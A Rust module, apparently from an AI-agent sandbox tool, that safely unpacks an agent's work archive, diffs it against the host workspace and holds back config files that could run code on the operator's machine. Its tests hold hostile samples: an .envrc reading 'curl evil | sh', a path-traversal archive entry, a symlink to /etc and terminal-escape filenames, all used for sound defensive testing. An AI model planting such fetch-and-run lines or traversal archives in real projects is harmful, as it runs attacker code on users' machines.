//! Getting work out of a bottle (SPEC §8 `diff`/`export`): the work tree
//! arrives as an archive of the work volume, is unpacked safely (regular
//! files and directories only, never outside the destination), and is
//! compared with the workspace it was copied from, under the same rules
//! as the copy (`.bottleignore`, no symlinks, `.git/` internals apart).
//!
//! Agent-written configuration that runs code or changes tools on the
//! operator's machine — git hooks and config, `.envrc`, editor tasks,
//! devcontainer and hook-manager files — is *flagged*: `diff` shows it
//! marked, `export` leaves it out and names it unless asked to include it.

use super::workspace_copy::{self, EntryKind};
use std::collections::BTreeMap;
use std::path::{Component, Path, PathBuf};

#[derive(Debug, thiserror::Error)]
pub enum WorkError {
    #[error("{path}: {source}")]
    Io {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("the work volume's archive is damaged: {0}")]
    Archive(String),
    #[error("{0}")]
    Scan(#[from] workspace_copy::CopyError),
    #[error("refusing to export into {0}: it exists and is not empty (nothing is overwritten)")]
    NotEmpty(PathBuf),
}

fn io(path: &Path) -> impl FnOnce(std::io::Error) -> WorkError + '_ {
    move |source| WorkError::Io {
        path: path.to_path_buf(),
        source,
    }
}

/// A relative, `/`-separated path with no `..`, root or empty parts; `None`
/// for anything else (and for the archive's own root, `.`).
fn clean_relative(raw: &Path) -> Option<PathBuf> {
    let mut out = PathBuf::new();
    for c in raw.components() {
        match c {
            Component::Normal(p) => out.push(p),
            Component::CurDir | Component::RootDir => {}
            Component::ParentDir | Component::Prefix(_) => return None,
        }
    }
    (!out.as_os_str().is_empty()).then_some(out)
}

/// Unpacks regular files and directories of `archive` under `dst`; returns
/// what was left out (path, why). Nothing is written through a symlink: no
/// symlink is ever created.
/// Regular files larger than `max_file` are not written (their bytes
/// stream past: a sparse file is never inflated on the host) and are named.
pub fn extract(
    archive: impl std::io::Read,
    dst: &Path,
    max_file: u64,
) -> Result<Vec<(String, String)>, WorkError> {
    use std::os::unix::fs::PermissionsExt;
    let mut skipped = Vec::new();
    let mut tar = tar::Archive::new(archive);
    let entries = tar
        .entries()
        .map_err(|e| WorkError::Archive(e.to_string()))?;
    for entry in entries {
        let mut entry = entry.map_err(|e| WorkError::Archive(e.to_string()))?;
        let raw = entry
            .path()
            .map_err(|e| WorkError::Archive(e.to_string()))?
            .into_owned();
        let Some(rel) = clean_relative(&raw) else {
            if raw.components().any(|c| c == Component::ParentDir) {
                skipped.push((
                    raw.display().to_string(),
                    "path leaves the work tree".into(),
                ));
            }
            continue;
        };
        let target = dst.join(&rel);
        let kind = entry.header().entry_type();
        if kind.is_dir() {
            std::fs::create_dir_all(&target).map_err(io(&target))?;
        } else if kind.is_file() && entry.size() > max_file {
            skipped.push((
                rel.display().to_string(),
                format!(
                    "{} is over the export size limit of {} (export_max_file_mib in config.yaml)",
                    human(entry.size()),
                    human(max_file)
                ),
            ));
        } else if kind.is_file() {
            if let Some(parent) = target.parent() {
                std::fs::create_dir_all(parent).map_err(io(parent))?;
            }
            let mut file = std::fs::File::create(&target).map_err(io(&target))?;
            std::io::copy(&mut entry, &mut file).map_err(io(&target))?;
            let mode = entry.header().mode().unwrap_or(0o644) & 0o755;
            std::fs::set_permissions(&target, std::fs::Permissions::from_mode(mode | 0o600))
                .map_err(io(&target))?;
        } else {
            let why = if kind.is_symlink() {
                "symlink (not exported)"
            } else if kind.is_hard_link() {
                "hard link (not exported)"
            } else {
                "special file (not exported)"
            };
            skipped.push((rel.display().to_string(), why.into()));
        }
    }
    Ok(skipped)
}

/// The default limit on one exported file (`export_max_file_mib` in
/// config.yaml changes it).
pub const DEFAULT_MAX_FILE: u64 = 100 * 1024 * 1024;

fn human(bytes: u64) -> String {
    const MIB: u64 = 1024 * 1024;
    if bytes >= MIB {
        format!("{:.1} MiB", bytes as f64 / MIB as f64)
    } else {
        format!("{bytes} bytes")
    }
}

/// `prefix` + `path` as git writes a name in a patch: in double quotes with
/// C escapes (octal for every other control and non-ASCII byte) when it
/// holds anything but plain printable ASCII, so a newline cannot break the
/// patch and no escape sequence reaches a terminal.
pub fn git_quoted(prefix: &str, path: &str) -> String {
    let full = format!("{prefix}{path}");
    let plain = full
        .bytes()
        .all(|b| (0x20..0x7f).contains(&b) && b != b'"' && b != b'\\');
    if plain {
        return full;
    }
    let mut out = String::from("\"");
    for b in full.bytes() {
        match b {
            b'"' => out.push_str("\\\""),
            b'\\' => out.push_str("\\\\"),
            b'\n' => out.push_str("\\n"),
            b'\t' => out.push_str("\\t"),
            0x20..=0x7e => out.push(b as char),
            _ => out.push_str(&format!("\\{b:03o}")),
        }
    }
    out.push('"');
    out
}

/// Held-back paths for display: the files of one `.git` directory as one
/// line (`sub/.git/ (N files)`), names made inert (SPEC §4.9).
pub fn held_lines(held: &[(String, String)]) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut groups: BTreeMap<String, (usize, String)> = BTreeMap::new();
    for (path, why) in held {
        let parts: Vec<&str> = path.split('/').collect();
        let git = parts[..parts.len().saturating_sub(1)]
            .iter()
            .position(|c| c.eq_ignore_ascii_case(".git"));
        match git {
            Some(i) if path != ".git/config" && !path.starts_with(".git/hooks/") => {
                let key = format!("{}/", parts[..=i].join("/"));
                let g = groups.entry(key).or_insert((0, why.clone()));
                g.0 += 1;
            }
            _ => out.push(format!("  {}  ({})", crate::sanitize::inline(path), why)),
        }
    }
    for (dir, (n, why)) in groups {
        out.push(format!(
            "  {} ({n} file{})  ({why})",
            crate::sanitize::inline(&dir),
            if n == 1 { "" } else { "s" }
        ));
    }
    out
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ChangeKind {
    Added,
    Modified,
    Deleted,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Change {
    pub path: String,
    pub kind: ChangeKind,
    /// Why this change is held back from a silent export.
    pub flag: Option<&'static str>,
}

/// Whether any component of `path` is `.git` in any case (a repository's
/// internals, a `.git` file pointing at a gitdir elsewhere, `.git/modules`,
/// a nested clone). Case-insensitive because the operator's filesystem may
/// be (`.GIT` is `.git` on macOS and Windows).
pub fn in_git(path: &str) -> bool {
    path.split('/').any(|c| c.eq_ignore_ascii_case(".git"))
}

/// Directories whose every file is editor, IDE or hook-manager
/// configuration that can run commands when the tree is opened.
const CONFIG_DIRS: [(&str, &str); 8] = [
    (".vscode", "editor configuration that can run commands"),
    (".idea", "IDE/devcontainer configuration"),
    (".devcontainer", "IDE/devcontainer configuration"),
    (".fleet", "editor configuration that can run commands"),
    (".zed", "editor configuration that can run commands"),
    (".theia", "editor configuration that can run commands"),
    (".husky", "commit hook configuration"),
    (
        ".mise",
        "tool version manager configuration (installs and runs tools)",
    ),
];

/// File names (any directory) that make a tool run code when the tree is
/// merely opened, entered, or built with the operator's usual tools.
const CONFIG_FILES: [(&str, &str); 27] = [
    (".envrc", "shell environment loaded by direnv"),
    (".env.local", "shell environment loaded by direnv"),
    (
        ".gitattributes",
        "git attributes/submodules (filters and fetches)",
    ),
    (
        ".gitmodules",
        "git attributes/submodules (filters and fetches)",
    ),
    (".pre-commit-config.yaml", "commit hook configuration"),
    ("lefthook.yml", "commit hook configuration"),
    ("lefthook.yaml", "commit hook configuration"),
    (".lefthook.yml", "commit hook configuration"),
    (".devcontainer.json", "IDE/devcontainer configuration"),
    (
        ".npmrc",
        "package manager configuration (scripts, registries, binaries)",
    ),
    (
        ".yarnrc",
        "package manager configuration (scripts, registries, binaries)",
    ),
    (
        ".yarnrc.yml",
        "package manager configuration (scripts, registries, binaries)",
    ),
    (
        ".pnpmfile.cjs",
        "package manager configuration (scripts, registries, binaries)",
    ),
    (
        "bunfig.toml",
        "package manager configuration (scripts, registries, binaries)",
    ),
    (
        "rust-toolchain",
        "toolchain selection (can point at any binary)",
    ),
    (
        "rust-toolchain.toml",
        "toolchain selection (can point at any binary)",
    ),
    (
        ".mise.toml",
        "tool version manager configuration (installs and runs tools)",
    ),
    (
        "mise.toml",
        "tool version manager configuration (installs and runs tools)",
    ),
    (
        ".tool-versions",
        "tool version manager configuration (installs and runs tools)",
    ),
    (
        ".rtx.toml",
        "tool version manager configuration (installs and runs tools)",
    ),
    (
        ".sdkmanrc",
        "tool version manager configuration (installs and runs tools)",
    ),
    (".exrc", "per-directory editor script"),
    (".nvimrc", "per-directory editor script"),
    (".nvim.lua", "per-directory editor script"),
    (".lvimrc", "per-directory editor script"),
    (".dir-locals.el", "per-directory editor script"),
    (".dir-locals-2.el", "per-directory editor script"),
];

/// Why a path written by the agent needs the operator's eyes, if it does
/// (the rule set and its reasons: ARCHITECTURE.md, "Export").
pub fn flag_for(path: &str) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase();
    let parts: Vec<&str> = lower.split('/').collect();
    let (name, dirs) = parts.split_last()?;
    if parts[0] == ".git" {
        if let Some(hook) = lower.strip_prefix(".git/hooks/") {
            return (!hook.ends_with(".sample")).then_some("git hook (runs on your machine)");
        }
        if lower == ".git/config" {
            return Some("git configuration (aliases, hooks path, credential helpers)");
        }
        return Some("git internals (config and hooks run on your machine)");
    }
    if parts.contains(&".git") {
        return Some("nested git repository (its config and hooks run on your machine)");
    }
    if let Some((_, why)) = CONFIG_DIRS.iter().find(|(d, _)| dirs.contains(d)) {
        return Some(why);
    }
    if dirs.last() == Some(&".cargo") && matches!(*name, "config" | "config.toml") {
        return Some("cargo configuration (runners, linkers, aliases)");
    }
    CONFIG_FILES
        .iter()
        .find(|(f, _)| f == name)
        .map(|(_, why)| *why)
}

#[derive(Clone, Debug, PartialEq, Eq)]
struct FileFacts {
    size: u64,
    executable: bool,
}

/// The files of a tree as the copy sees them; under `.git/` only the
/// config and hooks other than git's samples (everything else there is
/// git's own business).
fn files(root: &Path) -> Result<BTreeMap<String, FileFacts>, WorkError> {
    let list = workspace_copy::scan(root)?;
    Ok(list
        .entries
        .into_iter()
        .filter_map(|e| match e.kind {
            EntryKind::File { size, executable } => Some((e.path, FileFacts { size, executable })),
            EntryKind::Dir => None,
        })
        .filter(|(p, _)| {
            !p.starts_with(".git/")
                || p == ".git/config"
                || (p.starts_with(".git/hooks/") && !p.ends_with(".sample"))
        })
        .collect())
}

fn read(path: &Path) -> Result<Vec<u8>, WorkError> {
    std::fs::read(path).map_err(io(path))
}

/// The base's bytes as the bottle received them (its git config was
/// sanitised on the way in).
fn base_bytes(base: &Path, rel: &str) -> Result<Vec<u8>, WorkError> {
    let bytes = read(&base.join(rel))?;
    if workspace_copy::is_git_config(rel) {
        return Ok(
            workspace_copy::sanitize_git_config(&String::from_utf8_lossy(&bytes)).into_bytes(),
        );
    }
    Ok(bytes)
}

/// What differs between `base` (the host workspace, if any) and `after`
/// (the unpacked work tree), path-sorted.
pub fn changes(base: Option<&Path>, after: &Path) -> Result<Vec<Change>, WorkError> {
    let before = match base {
        Some(b) => files(b)?,
        None => BTreeMap::new(),
    };
    let now = files(after)?;
    let mut out = Vec::new();
    for (path, facts) in &now {
        let kind = match before.get(path) {
            None => ChangeKind::Added,
            Some(old) => {
                let base = base.expect("a base file implies a base");
                let same = old.executable == facts.executable
                    && base_bytes(base, path)? == read(&after.join(path))?;
                if same {
                    continue;
                }
                ChangeKind::Modified
            }
        };
        out.push(Change {
            path: path.clone(),
            kind,
            flag: flag_for(path),
        });
    }
    for path in before.keys().filter(|p| !now.contains_key(*p)) {
        // A hook, config or nested repository the agent removed changes
        // nothing on the host.
        if in_git(path) {
            continue;
        }
        out.push(Change {
            path: path.clone(),
            kind: ChangeKind::Deleted,
            flag: None,
        });
    }
    out.sort_by(|a, b| a.path.cmp(&b.path));
    Ok(out)
}

fn is_text(bytes: &[u8]) -> bool {
    !bytes.contains(&0) && std::str::from_utf8(bytes).is_ok()
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    match std::fs::metadata(path) {
        Ok(m) if m.permissions().mode() & 0o111 != 0 => 0o100755,
        _ => 0o100644,
    }
}

/// A git-style unified patch of `changes` (apply with `git apply` or
/// `patch -p1` in the workspace). Changes under `.git/` are never in it;
/// flagged ones only with `include_flagged`. Binary files are left out too
/// (`git apply` refuses a whole patch over one binary change without full
/// index lines) and returned, so the caller names them.
pub fn patch(
    base: Option<&Path>,
    after: &Path,
    changes: &[Change],
    include_flagged: bool,
) -> Result<(String, Vec<String>), WorkError> {
    let mut out = String::new();
    let mut binary = Vec::new();
    for c in changes {
        if in_git(&c.path) || (c.flag.is_some() && !include_flagged) {
            continue;
        }
        let (old, new) = match c.kind {
            ChangeKind::Added => (Vec::new(), read(&after.join(&c.path))?),
            ChangeKind::Deleted => (base_bytes(base.expect("base"), &c.path)?, Vec::new()),
            ChangeKind::Modified => (
                base_bytes(base.expect("base"), &c.path)?,
                read(&after.join(&c.path))?,
            ),
        };
        if old != new && (!is_text(&old) || !is_text(&new)) {
            binary.push(c.path.clone());
            continue;
        }
        let p = &c.path;
        out.push_str(&format!(
            "diff --git {} {}\n",
            git_quoted("a/", p),
            git_quoted("b/", p)
        ));
        let (old_name, new_name) = match c.kind {
            ChangeKind::Added => {
                out.push_str(&format!("new file mode {:o}\n", mode(&after.join(p))));
                ("/dev/null".to_string(), git_quoted("b/", p))
            }
            ChangeKind::Deleted => {
                out.push_str(&format!(
                    "deleted file mode {:o}\n",
                    mode(&base.expect("base").join(p))
                ));
                (git_quoted("a/", p), "/dev/null".to_string())
            }
            ChangeKind::Modified => {
                let (m0, m1) = (mode(&base.expect("base").join(p)), mode(&after.join(p)));
                if m0 != m1 {
                    out.push_str(&format!("old mode {m0:o}\nnew mode {m1:o}\n"));
                }
                (git_quoted("a/", p), git_quoted("b/", p))
            }
        };
        if old == new {
            continue;
        }
        let (old, new) = (
            String::from_utf8_lossy(&old).into_owned(),
            String::from_utf8_lossy(&new).into_owned(),
        );
        let diff = similar::TextDiff::from_lines(&old, &new);
        out.push_str(
            &diff
                .unified_diff()
                .context_radius(3)
                .header(&old_name, &new_name)
                .to_string(),
        );
    }
    Ok((out, binary))
}

/// Copies the work tree's files (not `.git/`; flagged files only with
/// `include_flagged`) into `dst`, which must not exist or be empty.
/// Returns the flagged files left out.
pub fn write_tree(
    after: &Path,
    dst: &Path,
    include_flagged: bool,
) -> Result<Vec<(String, String)>, WorkError> {
    if std::fs::read_dir(dst).is_ok_and(|mut d| d.next().is_some()) {
        return Err(WorkError::NotEmpty(dst.to_path_buf()));
    }
    std::fs::create_dir_all(dst).map_err(io(dst))?;
    let mut held = Vec::new();
    for path in files(after)?.keys() {
        match flag_for(path) {
            Some(why) if !include_flagged => {
                held.push((path.clone(), why.to_string()));
                continue;
            }
            _ => {}
        }
        let (from, to) = (after.join(path), dst.join(path));
        if let Some(parent) = to.parent() {
            std::fs::create_dir_all(parent).map_err(io(parent))?;
        }
        std::fs::copy(&from, &to).map_err(io(&to))?;
    }
    Ok(held)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tree(dir: &Path, files: &[(&str, &str)]) {
        for (p, text) in files {
            let path = dir.join(p);
            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            std::fs::write(path, text).expect("write");
        }
    }

    #[test]
    fn changes_and_patch_follow_the_copy_rules_and_flag_config() {
        let base = tempfile::tempdir().expect("tmp");
        let after = tempfile::tempdir().expect("tmp");
        tree(
            base.path(),
            &[
                ("src/main.rs", "fn main() {}\n"),
                ("gone.txt", "bye\n"),
                ("same.txt", "same\n"),
                (".bottleignore", "target/\n"),
                (".git/config", "[core]\n\tbare = false\n"),
                (".git/HEAD", "ref: refs/heads/main\n"),
            ],
        );
        tree(
            after.path(),
            &[
                ("src/main.rs", "fn main() {\n    println!(\"hi\");\n}\n"),
                ("same.txt", "same\n"),
                ("new.txt", "new\n"),
                (".bottleignore", "target/\n"),
                ("target/debug/big", "ignored build output\n"),
                (".envrc", "curl evil | sh\n"),
                (".git/config", "[core]\n\tbare = false\n"),
                (".git/HEAD", "ref: refs/heads/other\n"),
                (".git/hooks/pre-commit", "#!/bin/sh\n"),
                (".git/hooks/pre-push.sample", "#!/bin/sh\n"),
            ],
        );
        let got = changes(Some(base.path()), after.path()).expect("changes");
        let summary: Vec<(&str, ChangeKind, bool)> = got
            .iter()
            .map(|c| (c.path.as_str(), c.kind, c.flag.is_some()))
            .collect();
        assert_eq!(
            summary,
            vec![
                (".envrc", ChangeKind::Added, true),
                (".git/hooks/pre-commit", ChangeKind::Added, true),
                ("gone.txt", ChangeKind::Deleted, false),
                ("new.txt", ChangeKind::Added, false),
                ("src/main.rs", ChangeKind::Modified, false),
            ]
        );
        let (p, _) = patch(Some(base.path()), after.path(), &got, false).expect("patch");
        assert!(
            p.contains("+++ b/src/main.rs") && p.contains("+    println!(\"hi\");"),
            "{p}"
        );
        assert!(
            p.contains("--- a/gone.txt\n+++ /dev/null") && p.contains("-bye"),
            "{p}"
        );
        assert!(
            p.contains("new file mode 100644") && p.contains("+new"),
            "{p}"
        );
        assert!(!p.contains(".envrc") && !p.contains("pre-commit"), "{p}");
        let (with, _) = patch(Some(base.path()), after.path(), &got, true).expect("patch");
        assert!(
            with.contains("+curl evil | sh") && !with.contains("pre-commit"),
            "{with}"
        );

        let out = tempfile::tempdir().expect("tmp");
        let dst = out.path().join("export");
        let held = write_tree(after.path(), &dst, false).expect("export");
        assert_eq!(
            held.iter().map(|h| h.0.as_str()).collect::<Vec<_>>(),
            vec![".envrc", ".git/config", ".git/hooks/pre-commit"]
        );
        assert!(dst.join("src/main.rs").exists() && dst.join("new.txt").exists());
        assert!(!dst.join(".envrc").exists() && !dst.join(".git").exists());
        assert!(!dst.join("target").exists(), "ignored output stays behind");
        assert!(matches!(
            write_tree(after.path(), &dst, false),
            Err(WorkError::NotEmpty(_))
        ));
    }

    #[test]
    fn extraction_never_leaves_the_destination_or_creates_links() {
        let mut builder = tar::Builder::new(Vec::new());
        let mut add = |path: &str, kind: tar::EntryType, data: &[u8], link: Option<&str>| {
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(kind);
            h.set_size(data.len() as u64);
            h.set_mode(0o755);
            if let Some(l) = link {
                h.set_link_name(l).expect("link");
            }
            // Raw names: set_path refuses `..`, an attacker's archive does not.
            let name = &mut h.as_old_mut().name;
            name[..path.len()].copy_from_slice(path.as_bytes());
            h.set_cksum();
            builder.append(&h, data).expect("append");
        };
        add("./", tar::EntryType::Directory, b"", None);
        add("./ok.txt", tar::EntryType::Regular, b"ok", None);
        add("../escape.txt", tar::EntryType::Regular, b"x", None);
        add("./link", tar::EntryType::Symlink, b"", Some("/etc"));
        add("./sub/deep.txt", tar::EntryType::Regular, b"deep", None);
        let bytes = builder.into_inner().expect("tar");
        let dir = tempfile::tempdir().expect("tmp");
        let dst = dir.path().join("x");
        std::fs::create_dir(&dst).expect("mkdir");
        let skipped = extract(&bytes[..], &dst, u64::MAX).expect("extract");
        assert_eq!(std::fs::read(dst.join("ok.txt")).expect("ok"), b"ok");
        assert_eq!(
            std::fs::read(dst.join("sub/deep.txt")).expect("deep"),
            b"deep"
        );
        assert!(!dir.path().join("escape.txt").exists());
        assert!(std::fs::symlink_metadata(dst.join("link")).is_err());
        let why: Vec<&str> = skipped.iter().map(|s| s.1.as_str()).collect();
        assert_eq!(
            why,
            vec!["path leaves the work tree", "symlink (not exported)"]
        );
    }

    #[test]
    fn every_git_dir_and_tool_config_is_flagged_at_any_depth() {
        for p in [
            "sub/.git/config",
            "sub/.git/hooks/pre-commit",
            "a/b/.GIT/config",
            "sub/.git",
            ".git/modules/m/config",
            ".Git/config",
            "pkg/.envrc",
            "web/.vscode/extensions.json",
            "x/.devcontainer/devcontainer.json",
            "app/.yarnrc.yml",
            "app/.npmrc",
            "crate/.cargo/config.toml",
            ".cargo/config",
            ".mise.toml",
            "tools/.tool-versions",
            "lib/.gitattributes",
            "rust-toolchain.toml",
            ".dir-locals.el",
        ] {
            assert!(flag_for(p).is_some(), "{p} is not flagged");
        }
        for p in [
            "src/main.rs",
            "README.md",
            ".gitignore",
            "git/config",
            "cargo/config",
        ] {
            assert_eq!(flag_for(p), None, "{p}");
        }
        assert!(in_git("a/.GiT/x") && !in_git("a/git/x") && !in_git("a/.gitx/y"));
    }

    #[test]
    fn names_are_quoted_as_git_quotes_them() {
        assert_eq!(git_quoted("a/", "src/x.rs"), "a/src/x.rs");
        assert_eq!(git_quoted("b/", "x\ny"), "\"b/x\\ny\"");
        assert_eq!(
            git_quoted("a/", "\x1b]52;c;QQ==\x07"),
            "\"a/\\033]52;c;QQ==\\007\""
        );
        assert_eq!(git_quoted("a/", "ü\"\\"), "\"a/\\303\\274\\\"\\\\\"");
        let held = vec![
            ("sub/.git/config".to_string(), "nested".to_string()),
            ("sub/.git/HEAD".to_string(), "nested".to_string()),
            ("evil\x1b]52;c;x\x07".to_string(), "why".to_string()),
        ];
        let lines = held_lines(&held);
        assert!(
            lines.iter().any(|l| l.contains("sub/.git/ (2 files)")),
            "{lines:?}"
        );
        assert!(lines.iter().all(|l| !l.contains('\x1b')), "{lines:?}");
    }

    #[test]
    fn files_over_the_limit_are_named_not_written() {
        let mut builder = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_size(4096);
        h.set_mode(0o6755);
        h.set_entry_type(tar::EntryType::Regular);
        builder
            .append_data(&mut h, "big.bin", &[0u8; 4096][..])
            .expect("append");
        let mut h = tar::Header::new_gnu();
        h.set_size(2);
        h.set_mode(0o6755);
        h.set_entry_type(tar::EntryType::Regular);
        builder
            .append_data(&mut h, "suid", &b"ok"[..])
            .expect("append");
        let bytes = builder.into_inner().expect("tar");
        let dir = tempfile::tempdir().expect("tmp");
        let skipped = extract(&bytes[..], dir.path(), 1024).expect("extract");
        assert_eq!(skipped.len(), 1);
        assert!(skipped[0].0 == "big.bin" && skipped[0].1.contains("size limit"));
        assert!(!dir.path().join("big.bin").exists());
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(dir.path().join("suid"))
            .expect("suid")
            .permissions()
            .mode();
        assert_eq!(mode & 0o7777, 0o755, "no setuid/setgid on export");
    }
}
